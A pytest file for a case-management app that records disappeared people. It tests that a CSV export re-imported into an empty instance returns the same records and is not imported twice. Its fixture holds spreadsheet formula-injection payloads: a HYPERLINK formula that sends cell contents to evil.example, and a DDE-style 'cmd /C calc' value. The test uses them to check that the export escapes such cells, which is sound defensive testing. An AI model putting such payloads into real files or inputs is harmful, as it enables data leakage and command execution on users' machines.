"""Export → import into an empty instance → the same record.

The case list is downloaded as a caseworker would (the link under the list), the
instance is emptied of its cases and people, and the file goes back in through
`habeas import cases`, as a partner receiving it would run it. What the file
carries must come back as it was: the list exported again, and each case's JSON
record, say the same as before (the case ids aside: they are new, and the file's
`external_id` column keeps the old ones, so importing it again adds nothing)."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse

from habeas.cases import services as cases
from habeas.cases.models import Case, Person
from habeas.imports.models import ImportedRecord
from habeas.imports.plan import row_key
from habeas.lib.partialdate import PartialDate

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def _open(by, reference: str, names: list[str], person: dict | None = None, **fields) -> Case:
    someone = cases.person_create(name=names[0], by=by, **(person or {}))
    for name in names[1:]:
        cases.person_name_add(person=someone, text=name, by=by)
    return cases.case_create(reference=reference, person=someone, by=by, **fields)


@pytest.fixture
def register(alice):
    """Cases of every shape the import's columns carry."""
    _open(
        alice,
        "TM-2021-003",
        ["Рустам Исаков", "Rustam Isakow", "Rustam Isakov"],
        country="TM",
        disappeared_on=PartialDate.parse("2021-10-20 12:43"),
        disappeared_place="Ashgabat, airport",
        last_contact_on=PartialDate.parse("2021-10-20 12:43"),
        last_contact_place='The "Berkarar" mall',
        last_contact_channel="messenger",
        summary='Taken at passport control, "for a talk".\nNo news since; lawyer refused.',
        tags=["airport", "returnee"],
    )
    _open(
        alice,
        "UZ-2019-017",
        ["محمد صالح", "Muhammad Salih"],
        person={
            "sex": "m",
            "birth_date": PartialDate.parse("1985"),
            "nationality": "UZ",
            "occupation": "journalist",
            "affiliation": "Erk party",
            "description": "Scar over the left eyebrow.",
        },
        country="UZ",
        taken_in_country="TR",
        disappeared_on=PartialDate.parse("before Oct 2019"),
        last_contact_on=PartialDate.parse("about 2019"),
        priority=2,
        risk_health=True,
    )
    _open(
        alice,
        "RU-2020-101",
        [EVIL, "Ivan Petrov"],
        person={"sex": "f", "birth_date": PartialDate.parse("between 1990 and Mar 1991")},
        country="RU",
        disappeared_on=PartialDate.parse("between 2020 and Oct 2020"),
        disappeared_place="@SUM(1+1)*cmd|' /C calc'!A0",
        summary="-2+3, as the guards said",
        priority=4,
        tags=["=1+1"],
    )


def _rows(client) -> tuple[str, list[dict[str, str]]]:
    response = client.get(reverse("case_list_csv"))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8")
    return text, list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def _records(client) -> dict[str, dict]:
    """Each case's JSON record, as downloaded, with what the file carries of it."""
    records = {}
    for case in Case.objects.order_by("reference"):
        data = client.get(reverse("case_export", args=[case.public_id])).json()
        c, (person,) = data["case"], data["people"]
        records[c["reference"]] = {
            "case": {
                key: c[key]
                for key in (
                    "reference",
                    "country",
                    "taken_in_country",
                    "summary",
                    "disappeared_on",
                    "disappeared_place",
                    "priority",
                    "tags",
                    "risks",
                )
            },
            "last_contact": {k: c["last_contact"][k] for k in ("on", "place", "channel")},
            "person": {
                key: person[key]
                for key in (
                    "display_name",
                    "sex",
                    "birth_date",
                    "nationality",
                    "occupation",
                    "affiliation",
                    "description",
                )
            },
            "names": [(n["text"], n["script"], n["is_primary"]) for n in person["names"]],
        }
    return records


def _empty_the_instance() -> None:
    """What a new installation holds of cases: nothing (its accounts stay)."""
    Case.objects.all().delete()
    Person.objects.all().delete()
    assert not Case.objects.exists() and not Person.objects.exists()


def test_a_case_list_exported_then_imported_into_an_empty_instance_is_the_same(
    login, alice, register, tmp_path
):
    client = login(alice)
    text, before = _rows(client)
    records_before = _records(client)
    assert len(before) == 3
    assert any(cell.startswith("'=") for row in before for cell in row.values())  # escaped

    _empty_the_instance()
    exported = tmp_path / "cases.csv"
    exported.write_bytes(text.encode("utf-8"))
    out = io.StringIO()
    call_command("import", "cases", str(exported), "--as", "alice", stdout=out)
    assert "Imported cases.csv: 3 new cases" in out.getvalue(), out.getvalue()

    _, after = _rows(client)
    # The cases are new (new ids); everything else the file holds is as it was.
    without_ids = [{k: v for k, v in row.items() if k != "external_id"} for row in before]
    assert [{k: v for k, v in row.items() if k != "external_id"} for row in after] == without_ids
    assert _records(client) == records_before
    # The formula-like cells came back as typed, not with the export's apostrophe.
    gone = Case.objects.get(reference="RU-2020-101")
    assert gone.people.get().display_name == EVIL
    assert gone.disappeared_place == "@SUM(1+1)*cmd|' /C calc'!A0"


def test_the_same_file_imported_again_adds_nothing(login, alice, register, tmp_path):
    client = login(alice)
    text, before = _rows(client)
    first_ids = {str(case.public_id) for case in Case.objects.all()}
    assert {row["external_id"] for row in before} == first_ids
    _empty_the_instance()
    exported = tmp_path / "cases.csv"
    exported.write_bytes(text.encode("utf-8"))
    call_command("import", "cases", str(exported), "--as", "alice", stdout=io.StringIO())
    # The file's external ids are the first instance's case ids: each is known now,
    # under its keyed form (a copy of the database cannot confirm which ids came in).
    assert set(ImportedRecord.objects.values_list("key", flat=True)) == {
        row_key({}, row["external_id"]) for row in before
    }
    out = io.StringIO()
    call_command("import", "cases", str(exported), "--as", "alice", stdout=out)
    assert "0 new cases" in out.getvalue() and "3 already imported" in out.getvalue()
    assert Case.objects.count() == 3
